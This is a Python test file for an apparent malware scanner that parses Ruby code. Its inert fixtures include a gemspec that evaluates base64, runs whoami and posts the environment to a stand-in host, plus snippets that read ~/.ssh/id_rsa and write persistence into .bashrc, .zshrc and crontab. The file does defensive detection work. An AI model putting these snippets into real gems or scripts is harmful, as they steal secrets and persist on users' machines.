"""Ruby scanning on inert code written here: parsed, never run."""

from __future__ import annotations

from malgraph.analysis.languages import scan_code
from malgraph.analysis.scanning import CodeScan

# A gemspec that would run `whoami`, decode and evaluate `puts 1`, and send the environment.
GEMSPEC = """\
require 'base64'
require 'net/http'
require_relative "lib/evil/version"
user = `whoami`
eval Base64.decode64("cHV0cyAx")
Net::HTTP.post_form(URI("https://example.invalid/x"), "env" => ENV.to_h.to_s)
# system("this is a comment, not a call")
"""


def scan(text: str, path: str = "evil.gemspec") -> CodeScan:
    return scan_code(path, text, "ruby")


def found(result: CodeScan) -> set[tuple[str, str, int]]:
    return {(f.category, f.api, f.line) for f in result.findings}


def test_gemspec_with_backticks_base64_eval_and_net_http() -> None:
    result = scan(GEMSPEC)
    assert [(i.module, i.kind, i.relative, i.line) for i in result.imports] == [
        ("base64", "require", False, 1),
        ("net/http", "require", False, 2),
        ("lib/evil/version", "require_relative", True, 3),
    ]
    assert found(result) == {
        ("process", "backticks", 4),
        ("decode", "Base64.decode64", 5),
        ("eval", "eval", 5),
        ("network", "Net::HTTP", 6),
        ("env", "ENV", 6),
    }
    assert result.problems == ()


def test_process_eval_network_and_decode_variants() -> None:
    text = """\
require 'open3'
require 'open-uri'
load './tasks.rb'
require name
system("id")
exec "id"
out = %x{id}
IO.popen("id")
Open3.capture2("id")
Process.spawn("id")
klass.class_eval "def x; end"
binding.eval("1")
URI.open("https://example.invalid")
open("https://example.invalid").read
TCPSocket.new("example.invalid", 80)
RestClient.get("https://example.invalid")
["6869"].pack("H*")
s.unpack1("m0")
s.unpack("m")
Zlib::Inflate.inflate(data)
["hi"].pack("m")
File.open("notes.txt").read
"""
    result = scan(text, "Rakefile")
    assert [(i.module, i.kind, i.relative) for i in result.imports] == [
        ("open3", "require", False),
        ("open-uri", "require", False),
        ("./tasks.rb", "load", True),
    ]
    assert found(result) == {
        ("dynamic-import", "require", 4),
        ("process", "system", 5),
        ("process", "exec", 6),
        ("process", "%x", 7),
        ("process", "IO.popen", 8),
        ("process", "Open3.capture2", 9),
        ("process", "Process.spawn", 10),
        ("eval", "class_eval", 11),
        ("eval", "binding.eval", 12),
        ("network", "URI.open", 13),
        ("network", "open", 14),
        ("network", "TCPSocket", 15),
        ("network", "RestClient", 16),
        ("decode", "pack('H*')", 17),
        ("decode", "unpack1('m0')", 18),
        ("decode", "unpack('m')", 19),
        ("decode", "Zlib::Inflate", 20),
        # pack('m') encodes base64 and File.open reads: neither is a finding.
    }


def test_credentials_and_startup_writes() -> None:
    text = """\
require 'ethereum-wallet'
key = File.read(File.join(Dir.home, ".ssh", "id_rsa"))
File.write(File.join(Dir.home, ".bashrc"), "alias ls=true", mode: "a")
File.open("#{ENV['HOME']}/.zshrc", "a") { |f| f.puts "true" }
File.open("#{ENV['HOME']}/.profile").read
system("(crontab -l; echo '@reboot true') | crontab -")
"""
    result = found(scan(text))
    assert {f for f in result if f[0] in ("credentials", "startup-write")} == {
        ("credentials", ".ssh/", 2),
        ("credentials", "id_rsa", 2),
        ("startup-write", ".bashrc", 3),
        ("startup-write", ".zshrc", 4),
        ("startup-write", "crontab", 6),
    }


def test_broken_ruby_reports_a_problem_and_keeps_what_it_can() -> None:
    result = scan("require 'json'\ndef broken(\nsystem('id')\n", "lib/x.rb")
    assert [i.module for i in result.imports] == ["json"]
    assert len(result.problems) == 1 and result.problems[0].startswith("lib/x.rb: ruby syntax")


def test_files_without_any_trigger_are_not_parsed() -> None:
    assert scan("def add(a, b)\n  a + b\nend\n") == CodeScan((), (), ())
